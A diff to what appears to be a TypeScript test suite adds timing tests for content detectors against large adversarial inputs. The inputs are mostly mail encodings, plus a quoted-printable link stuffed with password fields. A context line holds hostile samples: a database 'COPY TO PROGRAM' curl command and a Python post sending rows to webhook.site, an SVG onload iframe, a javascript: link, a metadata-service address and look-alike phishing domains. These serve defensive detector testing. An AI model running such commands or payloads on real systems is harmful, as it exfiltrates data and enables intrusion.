@@ -677,6 +677,21 @@ describe('content detectors on adversarial input', () => {
     ['header blocks of encodings', `${rep('Content-Type: image/gif; name="a.exe"\nContent-Transfer-Encoding: base64\n', 8000)}\n\nQUFB\n`],
     // Encoded-words on one line: each looked 1000 characters back for its line's start.
     ['encoded-words on one line', '=?a?B?QUFB?=x '],
+    // mail-shapes.ts: escaped headers outside any string (each sought its string's quote back to the start), strings
+    // of them, `"raw"` fields, uuencode's first lines, ISO-2022-JP escapes never closed, mbox From lines, JSON header
+    // fields of encoded-words with no quote near, padded base64 and the URL alphabet, charsets of their own.
+    ['escaped headers outside strings', 'x\\nContent-Transfer-Encoding: base64\\n\\n'],
+    ['escaped headers in strings', '"Subject: a\\nContent-Transfer-Encoding: base64\\n\\nQUFB\\n", '],
+    ['raw fields', '"raw": "RnJvbTogYUBiLmV4YW1wbGUKU3ViamVjdDogaGkKCkhlbGxv", '],
+    ['raw fields never closed', '"raw": "QUFB'],
+    ['uuencode openers', 'begin 644 a.sh\nM86)C9&5F9VAI:FML;6YO<'],
+    ['uuencoded lines', 'begin 644 a.txt\n' + "M86)C9&5F9VAI:FML;6YO<'%R<W1U=G=X>7HQ,C,T-38W.#DP86)C9&5F9VAI\n".repeat(50) + 'end\n'],
+    ['ISO-2022-JP escapes', '\u001b$B$3$l\u001b(B x \u001b$B'],
+    ['mbox From lines', 'Content-Transfer-Encoding: base64\n\nQUFB\n\nFrom a@b.example Wed Dec  2 10:00:00 2026\n'],
+    ['JSON header fields', '"subject": "=?UTF-8?B?SWdub3Jl?= =?x?Q?a?=" '],
+    ['encoded-words far from quotes', 'Subject x =?UTF-8?B?SWdub3Jl?= '],
+    ['padded base64 lines', 'Content-Transfer-Encoding: base64\n\nSGk=\nSGk=\nSGVsbG8-_w==\n'],
+    ['charsets of their own', 'Content-Type: text/plain; charset=iso-2022-jp\nContent-Transfer-Encoding: base64\n\nGyRCJDMkbBsoQg==\n'],
   ] as const) {
     it(`the whole guard on the largest content of ${label}`, () => {
       const text = rep(unit, 800_000);
@@ -701,6 +716,15 @@ describe('content detectors on adversarial input', () => {
       `<iframe src="data:image/svg+xml;utf8,%3Csvg%20onload=x%3E"></iframe> COPY t TO PROGRAM 'curl -d @- https://webhook.site/a' requests.post("https://webhook.site/a", json=rows) rows = x https://webhook.site/a?r=a%40b.c,d%40e.f https://t.co/?u=https%253A%252F%252Fgooqle.com http://[fd00:ec2:0:0:0:0:0:254]/ https://paypal．com．x.io/ <a href="javascript :x">a</a> `,
       800_000,
     );
+    const started = cpu();
+    const r = guard(text, CONTENT_QUESTIONS);
+    expect(r.ok).toBe(true);
+    expect(cpu() - started).toBeLessThan(BOUND_MS * 4);
+  });
+  // Thousands of secrets read in a part both as written and decoded: each kept or dropped by a search, not a walk.
+  it('the whole guard on a quoted-printable link packed with passwords', () => {
+    const body = `https://x.example/?${rep('password=3DXk29sLq81Zp&amp;', 800_000)}`;
+    const text = `From: a@example.com\nSubject: x\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n${body}\n`;
     const started = cpu();
     const r = guard(text, CONTENT_QUESTIONS);
     expect(r.ok).toBe(true);
